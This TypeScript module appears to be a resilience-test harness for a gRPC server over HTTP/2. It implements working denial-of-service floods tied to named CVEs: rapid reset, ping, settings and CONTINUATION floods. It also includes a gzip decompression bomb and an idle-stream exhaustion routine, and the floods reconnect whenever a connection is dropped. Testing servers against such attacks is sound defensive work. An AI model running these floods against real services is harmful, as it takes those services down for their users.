import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { callHeaders, dataFrames, Flag, frame, grpcMessage, Kind } from './frames.ts';
import { RawCaller } from './raw-caller.ts';
import { RawPeer } from './raw-peer.ts';

/** Ways to flood a server over HTTP/2. */
export type Flood = 'calls' | 'reset' | 'ping' | 'settings' | 'continuation' | 'bomb';

/** How many frames are sent in a second, and how often, in milliseconds, those that have fallen due. */
const FRAMES_PER_SECOND = 5000;
const TICK_MS = 10;
/** What a bomb holds, in bytes: as gzip it takes 60 KB, which are within what may be sent before anything was read. */
const BOMB_BYTES = 60_000_000;
const CHECK = callHeaders('/grpc.health.v1.Health/Check');

/** What is sent of a flood as its nth piece, and before the first, on a connection of its own. */
interface Plan {
  first?: Buffer;
  piece: (nth: number) => Buffer;
  /** How many frames a piece has. */
  frames: number;
}

const PLANS: Readonly<Record<Exclude<Flood, 'bomb'>, Plan>> = {
  // What is well meant, for comparison: calls that are answered.
  calls: {
    frames: 2,
    piece: (nth) =>
      Buffer.concat([
        frame(Kind.HEADERS, Flag.END_HEADERS, 2 * nth + 1, CHECK),
        frame(Kind.DATA, Flag.END_STREAM, 2 * nth + 1, grpcMessage(Buffer.alloc(0))),
      ]),
  },
  // CVE-2023-44487: streams that are opened and given up at once.
  reset: {
    frames: 2,
    piece: (nth) =>
      Buffer.concat([
        frame(Kind.HEADERS, Flag.END_HEADERS, 2 * nth + 1, CHECK),
        frame(Kind.RST_STREAM, Flag.NONE, 2 * nth + 1, Buffer.from([0, 0, 0, 8])),
      ]),
  },
  // CVE-2019-9512: each has to be answered.
  ping: { frames: 1, piece: () => frame(Kind.PING, Flag.NONE, 0, Buffer.alloc(8)) },
  // CVE-2019-9515: so has each of these.
  settings: { frames: 1, piece: () => frame(Kind.SETTINGS, Flag.NONE, 0) },
  // CVE-2024-27316: headers that never end.
  continuation: {
    frames: 1,
    first: frame(Kind.HEADERS, Flag.NONE, 1, CHECK),
    piece: () => frame(Kind.CONTINUATION, Flag.NONE, 1, Buffer.alloc(100)),
  },
};

/**
 * Floods a server for some time; where it ends the connection, the flood goes on over a new one. Answers how many
 * there were.
 */
export async function flood(kind: Flood, address: string, forMs: number): Promise<number> {
  if (kind === 'bomb') return bombs(address, forMs);
  const { first, piece, frames } = PLANS[kind];
  const until = performance.now() + forMs;
  let connections = 0;
  while (performance.now() < until) {
    const peer = await RawPeer.open(address);
    connections++;
    if (first) await peer.write(first);
    for (let nth = 0; peer.open && performance.now() < until; await sleep(TICK_MS)) {
      const due = (FRAMES_PER_SECOND * TICK_MS) / 1000 / frames;
      await peer.write(Buffer.concat(Array.from({ length: due }, () => piece(nth++))));
    }
    peer.close();
    await peer.closed;
  }
  return connections;
}

/** Streams that are opened, and nothing more. */
export interface IdlePlan {
  path: string;
  count: number;
  /** Over how many connections. */
  connections: number;
  /** How long they are left open, in milliseconds. */
  forMs: number;
}

/** Opens streams at the same pace, and leaves them as they are for some time. */
export async function idleStreams(
  address: string,
  { path, count, connections, forMs }: IdlePlan,
): Promise<void> {
  const headers = callHeaders(path);
  const peers = await Promise.all(Array.from({ length: connections }, () => RawPeer.open(address)));
  const perTick = (FRAMES_PER_SECOND * TICK_MS) / 1000;
  for (let opened = 0; opened < count; opened += perTick) {
    for (let nth = opened; nth < opened + perTick; nth++) {
      const stream = 2 * Math.floor(nth / connections) + 1;
      await peers[nth % connections]!.write(frame(Kind.HEADERS, Flag.END_HEADERS, stream, headers));
    }
    await sleep(TICK_MS);
  }
  await sleep(forMs);
  for (const peer of peers) peer.close();
}

/** Calls whose request is 60 KB that hold 60 MB, one after the other. */
async function bombs(address: string, forMs: number): Promise<number> {
  const bomb = grpcMessage(gzipSync(Buffer.alloc(BOMB_BYTES)), true);
  const headers = callHeaders('/grpc.health.v1.Health/Check', { 'grpc-encoding': 'gzip' });
  const caller = new RawCaller(address, 1);
  const until = performance.now() + forMs;
  let sent = 0;
  for (; performance.now() < until; sent++) {
    await caller.call(headers, (stream) => dataFrames(stream, bomb), 1000);
  }
  await caller.close();
  return sent;
}
